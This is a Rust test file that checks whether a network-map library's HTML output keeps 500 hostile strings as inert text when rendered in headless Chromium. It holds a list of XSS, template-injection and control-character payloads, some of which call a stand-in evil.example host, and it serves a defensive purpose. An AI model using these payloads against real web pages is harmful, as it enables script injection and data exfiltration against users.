//! Text that wants to be more than text, everywhere a page tells somebody's words: it is shown, and nothing runs or leaves.

use std::collections::BTreeSet;

use acquaint::measures::Strengths;
use acquaint::network::{Community, Date, Department, Network, Organization, Person, PersonId, Position, Settings};
use acquaint::network::{Tie, TieKind, Topic};
use acquaint::sociogram::{Kind, Known, Output, Sociogram, Stake, Subject, Vacancy, Way, draw};
use serde_json::{Value, json};

use super::chromium::Chromium;

/// So many departments, communities and topics, each with people in it.
const UNITS: usize = 30;

/// What would set the canary or open a dialog if it ran, or ask for something.
const ATTACKS: [&str; 25] = [
    "<script>canary=1;alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=canary=1>",
    "<svg onload=canary=1>",
    "<svg><script>canary=1</script></svg>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<a href=javascript:canary=1 autofocus onfocus=canary=1>x</a>",
    "<body onload=canary=1>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "<link rel=stylesheet href=https://evil.example/z.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input autofocus onfocus=canary=1>",
    "<foreignObject><img src=https://evil.example/i.png></foreignObject>",
    "<use href='data:image/svg+xml,<svg id=x onload=canary=1>#x'/>",
    "<animate attributeName=href values=javascript:canary=1>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<details open ontoggle=canary=1>",
    "<math><mi xlink:href=javascript:canary=1>x</mi></math>",
    "onmouseover=canary=1 style=background:url(https://evil.example/s) x=",
    "javascript:canary=1//",
    "{{canary=1}}${canary=1}<%= canary %>#{canary=1}",
    "&lt;script&gt;canary=1&lt;/script&gt;&#60;img src=x onerror=canary=1&#62;",
    "constructor __proto__ toString length 0",
    "\u{202e}txet\u{202c} \u{200f}\u{2066}a\u{2069}\u{feff}\u{0}\u{1b}[2J\u{7}\r\n\u{85}\u{2028}\u{e0041}",
];

/// What breaks out of where a text may stand.
const ESCAPES: [&str; 20] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "-->",
    "<!--",
    "]]>",
    "<![CDATA[",
    "</title>",
    "</style>",
    "</script>",
    "</svg>",
    "</text></g>",
    "</table>",
    "&quot;>",
    "\\\"",
    "\\",
    "\u{0}\u{8}\" ",
];

fn payloads() -> Vec<String> {
    ESCAPES.iter().flat_map(|escape| ATTACKS.map(|attack| format!("{escape}{attack}"))).collect()
}

/// Returns what a picture shows of a text: without controls and what turns it around, its spaces made single.
fn meant(payload: &str) -> String {
    let barred = "\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{feff}";
    let kept = payload.chars().filter(|it| !barred.contains(*it) && !('\u{e0000}'..='\u{e007f}').contains(it));
    let spaced: String = kept.map(|it| if it.is_control() { ' ' } else { it }).collect();
    spaced.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn id(number: usize) -> PersonId {
    format!("p{number}").parse().unwrap()
}

/// Returns the payload of that number, counted round.
fn word(payloads: &[String], number: usize) -> String {
    payloads[number % payloads.len()].clone()
}

/// Returns one network of which every name, title, department, community, topic and note is a payload, and where each
/// payload is somebody's name and somebody else's title.
fn network(payloads: &[String]) -> Network {
    let word = |number: usize| word(payloads, number);
    let mut network = Network::new(Settings::of(id(0)));
    let home = "acme".parse().unwrap();
    network.load(Organization { note: word(7), ..Organization::named(home, word(6)) });
    for number in 0..UNITS {
        let unit = format!("acme/d{number}").parse().unwrap();
        network.load(Department { note: word(number), ..Department::named(unit, word(number * 17)) });
        let circle = format!("c{number}").parse().unwrap();
        network.load(Community { note: word(number + 9), ..Community::named(circle, word(number * 17 + 8)) });
        let topic = format!("t{number}").parse().unwrap();
        network.load(Topic { aliases: vec![word(number + 90)], ..Topic::named(topic, word(number + 60)) });
    }
    (0..payloads.len()).for_each(|number| person(&mut network, payloads, number));
    network
}

fn person(network: &mut Network, payloads: &[String], number: usize) {
    let word = |further: usize| word(payloads, number + further);
    let mut person = Person::named(id(number), word(0));
    let department = Some(format!("acme/d{}", number % UNITS).parse().unwrap());
    person.positions.push(Position { title: word(250), department, ..Position::default() });
    person.communities.push(format!("c{}", number % UNITS).parse().unwrap());
    person.communities.extend(number.is_multiple_of(3).then(|| format!("c{}", (number / 3) % UNITS).parse().unwrap()));
    person.seeks.push(format!("t{}", number % UNITS).parse().unwrap());
    (person.note, person.source, person.aliases) = (word(1), word(2), vec![word(3)]);
    (person.tags, person.links) = (vec![word(4)], vec![word(5)]);
    person.closeness = Some(u8::try_from(number % 6).unwrap());
    network.load(person);
    if number > 0 {
        let knows = Tie::between(id(number), id(0), TieKind::ALL[number % 8]);
        network.load(Tie { note: word(6), source: word(7), ..knows });
        network.load(Tie::between(id(number), id((number - 1) / 5), TieKind::ReportsTo));
        network.load(Tie::between(id(number), id((number * 7 + 3) % number), TieKind::Friend));
    }
}

/// Returns a map of each kind, with payloads in all that the caller says.
fn maps(payloads: &[String], network: &Network) -> Vec<Sociogram> {
    let today = Date::constant(2026, 11, 20);
    let strengths = Strengths::of(network, today);
    let number = |id: &PersonId| id.as_str()[1..].parse::<usize>().unwrap();
    let known = |id: &PersonId| Known {
        function: Some(word(payloads, number(id) + 375)),
        overdue: Some(1),
        suggested: Some(word(payloads, number(id) + 125)),
    };
    let stake = |n: usize| Stake {
        who: (n % 10 != 9).then(|| id(n * 2)),
        label: word(payloads, n + 11),
        power: (n % 7) as f64 / 7.0,
        interest: (n % 11) as f64 / 11.0,
        coverage: (n % 5) as f64 / 5.0,
    };
    let stakes: Vec<_> = (0..60).map(stake).collect();
    let unit = |n: usize| format!("acme/d{n}").parse().unwrap();
    let seat = |n: usize| Vacancy { label: word(payloads, n + 31), department: n.is_multiple_of(2).then(|| unit(n)) };
    let seats: Vec<_> = (0..12).map(seat).collect();
    let way = |n: usize| Way { people: vec![id(0), id(n), id(n * 5 + 1), id(499)], steps: vec![0.7; 3], strength: 0.5 };
    let ways: Vec<_> = (1..4).map(way).collect();
    let [size_name, group_name, choice] = [3, 9, 22].map(|it| word(payloads, it));
    let subject = Subject {
        // Each kind shows only so many: these numbers bring others to the front in each.
        sizes: &|id| (number(id) * 7 % 500) as f64,
        size_name: &size_name,
        group: &|id| Some(word(payloads, number(id) % 12)),
        group_name: &group_name,
        ways: &ways,
        vacancies: &seats,
        stakes: &stakes,
        known: &known,
        choice: &choice,
        ..Subject::of(network, &strengths, today)
    };
    Kind::ALL.into_iter().map(|it| (it.draw)(&subject, network.ego())).collect()
}

/// Does everything the page can do, and returns what its people are called.
const USED: &str = "(() => {
    const all = (it) => [...document.querySelectorAll(it)];
    const names = all('tbody tr').map(row => row.cells[0].textContent);
    all('.mark').forEach(it => it.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })));
    all('.mark').slice(0, 40).forEach(it => { it.dispatchEvent(new MouseEvent('click', { bubbles: true })); });
    all('fieldset').forEach(list => [...list.querySelectorAll('input')].slice(0, 20).forEach(it => it.click()));
    all('button').forEach(it => it.click());
    all('tbody tr a').slice(0, 40).forEach(it => it.click());
    const field = document.querySelector('input[type=search]');
    names.slice(0, 40).forEach(it => { field.value = it; field.dispatchEvent(new Event('input', { bubbles: true })); });
    return names;
})()";

/// What stands in the table, the filters and on the drawing.
const CELLS: &str =
    "[...document.querySelectorAll('tbody th, tbody td, fieldset span, svg text')].map(it => it.textContent)";
const ELEMENTS: &str = "[...new Set([...document.querySelectorAll('*')].map(it => it.localName))].sort().join(' ')";
const ALLOWED: &str = "a aside body button caption circle dd details div dl dt fieldset form g h1 h2 head header html i \
    input label legend main meta p path rect script section span style summary svg table tbody td text th thead title tr";
const ATTRIBUTES: &str = "[...document.querySelectorAll('*')].flatMap(it => [...it.attributes]).filter(it => \
    /^on|^style$|src|action/i.test(it.name) || /href/i.test(it.name) && !/^#(data|m\\d+)$/.test(it.value)).length";
const WATCH: &str = "window.reports = []; \
    addEventListener('securitypolicyviolation', it => reports.push(it.violatedDirective + ' ' + it.blockedURI));";

fn hold(browser: &mut Chromium, map: &Sociogram) {
    let names = browser.ask(USED);
    let shown: Vec<&str> = names.as_array().unwrap().iter().filter_map(Value::as_str).collect();
    let meant: Vec<&str> = map.marks.iter().map(|it| it.text.as_str()).collect();
    assert_eq!(shown, meant, "text comes out as it was meant");
    assert_eq!(browser.text("typeof canary"), "undefined");
    assert_eq!(browser.text("reports.join()"), "");
    let allowed: BTreeSet<_> = ALLOWED.split_whitespace().collect();
    let elements = browser.text(ELEMENTS);
    assert!(elements.split(' ').all(|it| allowed.contains(it)), "{elements}");
    assert_eq!(browser.count("document.scripts.length"), 1);
    assert_eq!(browser.count(ATTRIBUTES), 0);
    browser.ask("new Promise(done => setTimeout(done, 200))");
    for quiet in
        ["Page.javascriptDialogOpening", "Runtime.exceptionThrown", "Runtime.consoleAPICalled", "Log.entryAdded"]
    {
        assert!(browser.told(quiet).is_empty(), "{:?}", browser.told(quiet));
    }
    let asked: Vec<_> =
        browser.told("Network.requestWillBeSent").into_iter().map(|it| &it["params"]["request"]["url"]).collect();
    assert_eq!(asked.len(), 1, "nothing is asked for but the page: {asked:?}");
}

#[test]
fn five_hundred_payloads_stay_text() {
    let (payloads, folder) = (payloads(), super::fresh("hostile"));
    let mut browser = Chromium::start("hostile");
    browser.call("Page.addScriptToEvaluateOnNewDocument", json!({"source": WATCH}));
    assert_eq!(payloads.iter().collect::<BTreeSet<_>>().len(), 500);
    let mut shown = BTreeSet::new();
    for map in maps(&payloads, &network(&payloads)) {
        let file = folder.join(format!("{}.html", map.kind));
        std::fs::write(&file, draw(&map, Output::Html, None).unwrap().bytes).unwrap();
        browser.open(&file);
        hold(&mut browser, &map);
        let cells = browser.ask(CELLS);
        shown.extend(cells.as_array().unwrap().iter().map(|it| it.as_str().unwrap().to_owned()));
    }
    let unseen: Vec<_> = payloads.iter().map(|it| meant(it)).filter(|it| !shown.contains(it)).collect();
    assert!(unseen.is_empty(), "{} of 500 are on no page: {unseen:#?}", unseen.len());
    crate::rigs::told("five_hundred_payloads_stay_text", "7 pages, 500 payloads on them: no script, request or report");
    // That the watch is awake: a page that does run a script, and is kept from running another, is found out.
    let file = folder.join("awake.html");
    let policy = "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'\">";
    std::fs::write(&file, format!("{policy}<img src='https://evil.example/'><script>canary=1</script>")).unwrap();
    browser.open(&file);
    assert_eq!(browser.text("reports.length"), "2");
    assert!(!browser.told("Log.entryAdded").is_empty());
}
